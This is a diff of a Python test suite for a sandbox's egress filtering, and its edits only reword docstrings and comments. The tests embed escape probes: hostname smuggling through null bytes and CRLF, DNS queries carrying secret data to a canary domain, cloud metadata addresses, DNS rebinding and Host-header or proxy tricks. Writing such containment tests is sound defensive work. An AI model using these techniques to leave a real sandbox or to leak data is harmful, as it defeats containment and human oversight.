@@ -1,8 +1,9 @@
 # SPDX-License-Identifier: Apache-2.0
 """
-Ways out of a sandbox, tried from inside in an internet of the test's own (tests/egress). After each test every packet on the wire is
-accounted for, canaries are silent, and nothing that was denied was looked up. Each try has a control: it succeeds from a box with a
-network device, or under a policy that allows it. The numbers are those of CATALOGUE.md.
+Ways out of a sandbox, tried from inside in the test's own internet (tests/egress). After each test
+every packet on the wire is accounted for, the canaries have heard nothing, and no denied name was
+looked up. Each try has a control: it succeeds from a box with a network device, or under a policy
+that allows it. Numbers refer to CATALOGUE.md.
 """
 
 import concurrent.futures
@@ -17,7 +18,7 @@ from sandbox import as_root, hutch
 from waiting import eventually, steady
 
 PROBE = pathlib.Path(__file__).with_name("egress_probe.py").read_text()
-SOON = 60  # what is refused does not wait for anybody; far above what it takes, and below egress_probe.LATE
+SOON = 60  # a refusal waits for no other host; far above what it takes, and below egress_probe.LATE
 GONE = ("closed", "ECONNRESET", "EPIPE")
 WEB = "web.hutch.test"
 ELSEWHERE = ["1.1.1.1", "8.8.8.8", "10.0.0.1", "192.168.1.1", "172.17.0.1", "100.64.0.1", "169.254.169.254", "168.63.129.16", "93.184.217.66"]
@@ -38,7 +39,7 @@ def records_of(address):
 
 
 def live(port):
-    """The connections that a server has now, with the bytes of each."""
+    """Returns the bytes of each connection that a server has now."""
     return [one["bytes"] for one in WORLD("tcp", port=port) if not one["end"]]
 
 
@@ -50,7 +51,8 @@ class Probing(EgressCase):
 
     @contextlib.contextmanager
     def held(self, sandbox, lines):
-        """Lines that wait, with go(), until this context ends; what it gives has the result of probe()."""
+        """Runs lines that wait in go() until this context ends. Yields a future for the result
+        of probe()."""
         self.ended(hutch("exec", sandbox, "--", "mkfifo", "/tmp/go"), 0)
         with concurrent.futures.ThreadPoolExecutor(1) as pool:
             said = pool.submit(self.probe, sandbox, lines)
@@ -65,19 +67,20 @@ class Probing(EgressCase):
         return name
 
     def all_at_once(self, results):
-        """{try: [what it gave, seconds]}: none succeeded, and none took long."""
+        """Takes {try: [result, seconds]} and checks that no try succeeded or took long."""
         for what, (result, took) in results.items():
             self.assertNotEqual(result, "ok", what)
             self.assertLess(took, SOON, what)
         return {what: result for what, (result, _) in results.items()}
 
     def served(self):
-        """What the web has seen since the last time: the first bytes of connections that sent some."""
+        """Returns what the web server has seen since the last call: the first bytes of
+        connections that sent some."""
         return [bytes.fromhex(c["first"]) for c in WORLD("web")["connections"] if c["first"]]
 
 
 class Addresses(Probing):
-    """66, 67, 71, 76, 90: there is no way to an address, whatever is spoken."""
+    """66, 67, 71, 76, 90: no protocol reaches an address."""
 
     RAW = f"say({{h: attempt(lambda: tcp(h, p)) for h in {ELSEWHERE + ELSEWHERE6} for p in (80,)}})"
     UDP = f"say({{h: attempt(lambda: udp(h, 443)) for h in {ELSEWHERE + ELSEWHERE6}}})"
@@ -100,18 +103,19 @@ class Addresses(Probing):
         said = self.probe(self.box([WEB]), """
 say({n: attempt(lambda: other(*a)) for n, a in {'icmp': (2, 2, 1), 'icmp6': (10, 2, 58), 'raw icmp': (2, 3, 1), 'raw': (2, 3, 255), 'sctp': (2, 1, 132),
      'sctp packets': (2, 5, 132), 'dccp': (2, 6, 33), 'udplite': (2, 2, 136), 'packet': (17, 3, 768), 'vsock': (40, 1, 0), 'mptcp': (2, 1, 262)}.items()})""")
-        # mptcp is TCP: it goes where TCP goes, which is nowhere. A socket for pings that can be made reaches as little.
+        # mptcp is TCP, and TCP reaches no address. Some kernels allow a ping socket; it reaches
+        # nothing either.
         for what, (result, _) in said.items():
             if what not in ("mptcp", "udplite", "icmp", "icmp6"):
                 self.assertNotEqual(result, "ok", what)
 
     def test_udp_to_a_name(self):
-        """QUIC: the address of an allowed name takes TCP only."""
+        """QUIC: an allowed name's address accepts TCP only."""
         said = self.probe(self.box([WEB]), "say(attempt(lambda: udp(lookup('web.hutch.test')[0], 443)))")
         self.assertIn(said[0], ("ECONNREFUSED", "TimeoutError", "ENETUNREACH", "EACCES"))
 
     def test_literals_by_the_proxy(self):
-        """71: addresses as names, in every spelling that a resolver reads."""
+        """71: addresses as names, in every spelling that resolvers accept."""
         spelled = ["93.184.217.66", "93.184.55618", "0x5db8d942", "1572395330", "0135.0270.0331.0102", "127.0.0.1", "0177.1", "127.1", "0", "0.0.0.0",
                    "1.1", "[::1]", "::1", "[fe80::1%25lo]", "[::ffff:93.184.217.66]", "169.254.169.254", "2852039166"]
         box = self.box([WEB, ".hutch.test"])
@@ -130,7 +134,7 @@ say({n: attempt(lambda: other(*a)) for n, a in {'icmp': (2, 2, 1), 'icmp6': (10,
 
 
 class Controls(unittest.TestCase):
-    """The same tries where there is a network device: they get out."""
+    """The same tries from a box with a network device succeed."""
 
     def probe(self, lines):
         r = WORLD.box("python3", "-", data=script(lines))
@@ -152,14 +156,15 @@ class Controls(unittest.TestCase):
         self.assertEqual([s[0] for s in said], ["answer 22"] * 2)
 
     def test_hidden_and_odd_names(self):
-        """69 to 71: a proxy that reads names as C reads strings, and a resolver that reads numbers, reach the canary."""
+        """69 to 71: a proxy that treats names as C strings, and a resolver that reads numbers,
+        reach the canary."""
         WORLD("canaries")
         for name in (Names.HIDDEN[0], b"evil.canary.test.", b"0x5db8d942", b"93.184.55618", b"1572395330", b"0135.0270.0331.0102"):
             self.assertEqual(self.probe(f"say([socks({name}, 80), connect_line({name} + b':80')])"), [0, 200], name)
         self.assertGreaterEqual(len(WORLD("canaries")), 12)
 
     def test_questions(self):
-        """80: data in names is heard by whoever answers for them."""
+        """80: the authoritative server of a name receives the data in it."""
         said = self.probe("say([query([b'secret%d' % i, b'canary', b'test'], k) for i in range(3) for k in (1, 28, 16)])")
         self.assertEqual({s[1] for s in said}, {3})
         self.assertIn("secret2.canary.test", {q[1] for q in WORLD("plain_asked")})
@@ -171,9 +176,9 @@ class Controls(unittest.TestCase):
 
 
 class Names(Probing):
-    """68 to 72, 79, 80, 82, 99: only what the policy names, in its one spelling."""
+    """68 to 72, 79, 80, 82, 99: only names in the policy, in their one spelling."""
 
-    # Python's own spelling of bytes, for names that hide another one.
+    # Names that hide another one, as Python bytes literals.
     HIDDEN = [b"evil.canary.test\0.hutch.test", b"evil.canary.test%00.hutch.test", b"evil.canary.test#.hutch.test", b"evil.canary.test/.hutch.test",
               b"evil.canary.test\r\n.hutch.test", b"evil.canary.test .hutch.test", b"evil.canary.test\t.hutch.test", b"evil.canary.test\\.hutch.test",
               b"evil.canary.test@web.hutch.test", b"web.hutch.test@evil.canary.test", b"web.hutch.test\0", b"\0web.hutch.test"]
@@ -205,7 +210,7 @@ class Names(Probing):
         self.refused(self.box([".hutch.test"]), self.ODD)
 
     def test_hidden_names_in_questions(self):
-        """The same in labels of DNS, where any byte can stand."""
+        """The same in DNS labels, which may hold any byte."""
         said = self.probe(self.box([".hutch.test"]), """
 bad = [[b'evil\\0', b'hutch', b'test'], [b'evil.canary.test', b'hutch', b'test'], [b'we b', b'hutch', b'test'], [b'we\\r\\nb', b'hutch', b'test'], [b'web.hutch.test'],
        [b'w\\xc3\\xa9b', b'hutch', b'test'], [b'_web', b'hutch', b'test']]
@@ -247,14 +252,14 @@ say([attempt(lambda: query(n)) for n in bad] + [attempt(lambda: query([b'WeB', b
         self.assertEqual(self.asked(), set())
 
     def test_data_in_allowed_names(self):
-        """81: under a rule for all names below one, so many and no more."""
+        """81: a rule for all names below one allows a limited number of them."""
         box = self.box([".deep.hutch.test"], more="  budgets: {names: 10}\n")
         said = self.probe(box, "say([socks(b'data%d.deep.hutch.test' % i, 443) for i in range(30)])")
         self.assertEqual([s == 0 for s in said], [True] * 10 + [False] * 20)
         self.assertEqual(len([n for n in self.asked() if n.startswith("data")]), 10)
 
     def test_resolvers_over_https(self):
-        """82: they stay shut, also when somebody allows them while it runs."""
+        """82: they stay blocked, even if an operator allows them at run time."""
         box = self.box([WEB])
         for name in ("dns.google", "cloudflare-dns.com", "metadata.google.internal"):
             hutch("egress", "allow", box, name)
@@ -271,7 +276,7 @@ say([attempt(lambda: query(n)) for n in bad] + [attempt(lambda: query([b'WeB', b
 
 
 class Resolving(Probing):
-    """74 to 77, 174: what a resolver says is checked, each time, before anything is dialled."""
+    """74 to 77, 174: every resolver answer is checked before a connection is made."""
 
     def fails(self, box, name, port=443):
         result, took = self.probe(box, f"say(attempt(lambda: socks(b'{name}', {port})))")
@@ -288,7 +293,8 @@ class Resolving(Probing):
                 self.assertIn(name, self.asked())
 
     def test_metadata(self):
-        """76, also where the policy names the host, and also by its own address in a public range."""
+        """76, also if the policy names the host, and also for a metadata address in a public
+        range."""
         box = self.box([".hutch.test:80", ".hutch.test"])
         for i, address in enumerate(METADATA):
             name = self.name(f"m{i}.hutch.test", **records_of(address))
@@ -296,7 +302,7 @@ class Resolving(Probing):
                 self.fails(box, name, port)
 
     def test_this_host(self):
-        """77: the host's own public address is not what anybody meant."""
+        """77: a policy that names a host never means this host's own public address."""
         box = self.box(["self.hutch.test:8080", "self.hutch.test"])
         for address in WORLD.host:
             self.name("self.hutch.test", **records_of(address))
@@ -304,7 +310,8 @@ class Resolving(Probing):
             self.fails(box, "self.hutch.test", 443)
 
     def test_rebinding(self):
-        """75: first a public address, then a private one, with a lifetime of nothing; each stream is checked anew."""
+        """75: first a public address, then a private one, with a TTL of 0; each stream is
+        checked again."""
         box = self.box(["rebind.hutch.test"])
         self.name("rebind.hutch.test", a=["93.184.216.19"], ttl=0, then={"a": ["10.0.0.1"], "ttl": 0})
         said = self.probe(box, "say([attempt(lambda: socks(b'rebind.hutch.test', 443)) for _ in range(5)])")
@@ -314,7 +321,7 @@ class Resolving(Probing):
         box = self.box(["mixed.hutch.test"])
         self.name("mixed.hutch.test", a=["10.0.0.1", "93.184.216.10", "169.254.169.254"], aaaa=["fd00::1"], ttl=0)
         self.probe(box, "say([attempt(lambda: socks(b'mixed.hutch.test', 443)) for _ in range(5)])")
-        # account() sees whether anything was sent to one of the others.
+        # account() checks that nothing was sent to the other addresses.
 
     def test_aliases(self):
         box = self.box(["alias.hutch.test", "away.hutch.test"])
@@ -325,7 +332,7 @@ class Resolving(Probing):
         self.assertEqual(self.probe(box, "say(socks(b'away.hutch.test', 443))"), 0, "an alias to a public address is the resolver's business")
 
     def test_lies(self):
-        """174: answers that are wrong, late, empty or an error end the try, soon, and are not remembered."""
+        """174: wrong, late, empty and error answers end the try soon and are not cached."""
         box = self.box(["lie.hutch.test"])
         right = {"a": ["93.184.216.10"], "ttl": 0}
         for entry in ({**right, "wrong": "id"}, {**right, "wrong": "question"}, {**right, "wrong": "garbage"}, {**right, "wrong": "loop"},
@@ -340,7 +347,7 @@ class Resolving(Probing):
         box = self.box([".hutch.test"])
         self.name("extra.hutch.test", a=["93.184.216.10"], extra={"web.hutch.test": "93.184.217.66"})
         self.assertEqual(self.probe(box, "say([socks(b'extra.hutch.test', 443), socks(b'web.hutch.test', 443)])"), [0, 0])
-        # account(): nothing went to 93.184.217.66
+        # account() checks that nothing was sent to 93.184.217.66.
 
     def test_long_and_cut_answers(self):
         box = self.box([".hutch.test"])
@@ -351,7 +358,7 @@ class Resolving(Probing):
 
 
 class Hellos(Probing):
-    """83 to 86, 89: TLS asks for the name that was allowed, before a byte of it goes out."""
+    """83 to 86, 89: the server name in TLS must be allowed before any byte goes out."""
 
     def tried(self, data, rule=WEB, **more):
         box = self.box([rule])
@@ -395,16 +402,16 @@ class Hellos(Probing):
     def test_a_long_hello(self):
         self.refused("records(hello([b'other.hutch.test'], padding=60000))")
 
-    @as_root  # half a minute, of code that does not know who runs it
+    @as_root  # takes half a minute and does not depend on the user
     def test_a_slow_hello(self):
-        """Begun, and never finished: closed after a while, and nothing went out."""
+        """An unfinished hello: the connection is closed after a while, and nothing is sent out."""
         box = self.box([WEB])
         result, _ = self.probe(box, f"say(attempt(lambda: send('{WEB}', 443, records(hello([b'{WEB}']))[:40])))")
         self.assertIn(result, GONE)
         self.assertEqual(self.served(), [])
 
     def test_other_bytes(self):
-        """89: what is not TLS, SSL 2, and TLS on the port of HTTP."""
+        """89: bytes that are not TLS, SSL 2, and TLS on the HTTP port."""
         for data in ("b'SSH-2.0-OpenSSH_9.2\\r\\n'", "b'GET / HTTP/1.1\\r\\nHost: web.hutch.test\\r\\n\\r\\n'", "b'\\x80\\x2e\\1\\0\\2\\0\\x15\\0\\0\\0\\x10' + b'x' * 40",
                      "b'\\x16\\3\\1\\0\\0'", "b'\\x17\\3\\3\\0\\4abcd'"):
             with self.subTest(data):
@@ -414,7 +421,8 @@ class Hellos(Probing):
         self.assertEqual(self.served(), [])
 
     def test_encrypted_hello(self):
-        """85: whether it is real cannot be seen; the rule says whether it may be."""
+        """85: a real encrypted hello looks like a fake one; the rule decides whether it is
+        allowed."""
         self.refused(f"records(hello([b'{WEB}'], ech=True))")
         result, _, served = self.tried(f"records(hello([b'{WEB}'], ech=True))", rule=WEB + ":443/tls+ech")
         self.assertEqual((result, len(served)), ("answer 22", 1))
@@ -423,12 +431,14 @@ class Hellos(Probing):
         self.assertEqual(served, [])
 
     def test_another_host_inside(self):
-        """86, 88: TLS is not opened, so another host in the request is not seen. docs/THREAT-MODEL.md says so; this shows it."""
+        """86, 88: TLS is not decrypted, so a different host in the request goes unnoticed.
+        docs/THREAT-MODEL.md documents this limit; this test shows it."""
         r = run(self.box([WEB]), "curl", "-sS", "-H", "Host: other.hutch.test", f"https://{WEB}/")
         self.assertEqual(r.out, "hello from other.hutch.test\n", r)
 
     def test_the_address_of_another_name(self):
-        """93: a program that says which address a name has reaches what the address stands for, under its own name only."""
+        """93: a program that maps a name to another name's address itself still needs the
+        allowed server name."""
         box = self.box([WEB])
         address = self.probe(box, f"say(lookup('{WEB}')[0])")
         r = run(box, "curl", "-sS", "--resolve", f"evil.canary.test:443:{address}", "https://evil.canary.test/")
@@ -439,7 +449,7 @@ class Hellos(Probing):
 
 
 class Requests(Probing):
-    """87, 91: plain HTTP asks for the host that was allowed."""
+    """87, 91: plain HTTP must name the allowed host."""
 
     WRONG = {
         "another host": b"GET / HTTP/1.1\r\nHost: evil.canary.test\r\n\r\n",
@@ -471,7 +481,7 @@ class Requests(Probing):
             self.assertEqual(self.served(), [head])
 
     def test_headers_of_the_proxy(self):
-        """91: what is said to the proxy about other proxies changes nothing."""
+        """91: proxy headers in a request have no effect."""
         box = self.box([WEB])
         for header in (b"X-Upstream-Https-Proxy: http://evil.canary.test:80", b"X-Forwarded-Host: evil.canary.test", b"Proxy-Authorization: Basic eA==",
                        b"Host: evil.canary.test"):
@@ -483,7 +493,7 @@ class Requests(Probing):
         box = self.box(["other.hutch.test"])
         for env in ("NO_PROXY=*", "https_proxy=", "ALL_PROXY=socks5h://127.0.0.1:3128", "https_proxy=http://93.184.217.66:80"):
             r = run(box, "env", env, "curl", "-sS", "-m", "120", f"https://{WEB}/")
-            self.assertNotIn(r.code, (0, 28), env)  # 28: curl itself gave up
+            self.assertNotIn(r.code, (0, 28), env)  # 28: curl's own timeout
         self.assertEqual(run(box, "env", "NO_PROXY=*", "curl", "-sS", "https://other.hutch.test/").code, 0, "control")
 
 
@@ -505,7 +515,7 @@ class Streams(Probing):
         done.join()
 
     def test_a_policy_that_is_tightened(self):
-        """97: what was allowed and is no more, ends at once."""
+        """97: a stream that is no longer allowed ends at once."""
         box = self.box(["tcp.hutch.test:7777", WEB])
         result = []
 
@@ -521,7 +531,7 @@ class Streams(Probing):
         self.assertEqual(run(box, "curl", "-sS", f"https://{WEB}/").code, 0, "others go on")
 
     def test_half_closed(self):
-        """100: the end of what one side says is passed on, and the other may go on."""
+        """100: end of file is passed on, and the other direction continues."""
         box = self.box(["tcp.hutch.test:7000"])
         with self.held(box, """
 s = socket.create_connection(('tcp.hutch.test', 7000), LATE)
@@ -546,7 +556,7 @@ say(0)""") as said:
         eventually(lambda: not live(7000), "the end of the stream at the server")
 
     def test_never_read(self):
-        """A program that asks for bytes without end and reads none: what waits is bounded."""
+        """A program requests endless bytes and reads none: buffers are bounded."""
         box = self.box(["tcp.hutch.test:9000"])
         with self.held(box, "s = socket.create_connection(('tcp.hutch.test', 9000), LATE)\ngo()\nsay(0)"):
             eventually(lambda: live(9000), "bytes without end")
@@ -580,7 +590,7 @@ say(got)""") as said:
         self.assertEqual([g == "answer 50" for g in said], [True] * 10 + [False] * 5)
 
     def test_a_flood_of_connections(self):
-        """Thousands that say nothing: the next one that does still gets out, when they are gone."""
+        """Thousands of silent connections: once they are closed, a new one gets out."""
         box = self.box([WEB])
         self.probe(box, """
 import resource
@@ -603,11 +613,11 @@ say(n)""")
     UPLOAD = "head -c 4000000 /dev/zero | curl -sS -m 250 --data-binary @- https://upload.hutch.test/sink"
 
     def test_bytes_out(self):
-        """101: cut at the budget, give or take 64 KiB."""
+        """101: cut at the budget, within 64 KiB."""
         box = self.box(["upload.hutch.test"], more="  budgets: {bytes_out: 1MiB}\n")
         r = run(box, "sh", "-c", self.UPLOAD)
         self.assertNotEqual(r.code, 0, r)
-        # On the wire it can be less: a reset drops what the kernel still had to send.
+        # Fewer bytes may reach the wire: a reset drops those still in the kernel's send queue.
         sent = sum(p[8] for p in WORLD("packets")["packets"] if p[0] == "out" and p[1] == "out")
         self.assertLessEqual(sent, (1 << 20) + 65536)
         counted = self.logged(box, over=True, name="upload.hutch.test", verdict="allowed")[0]["bytes_out"]
@@ -619,7 +629,7 @@ say(n)""")
         self.assertEqual(r.out, "4000000\n", r)
 
     def test_slow_drip(self):
-        """102: little by little, in many streams, it is the sum that counts."""
+        """102: small amounts in many streams count together."""
         box = self.box(["tcp.hutch.test:7000"], more="  budgets: {bytes_out: 100KiB}\n")
         said = self.probe(box, """
 got = []
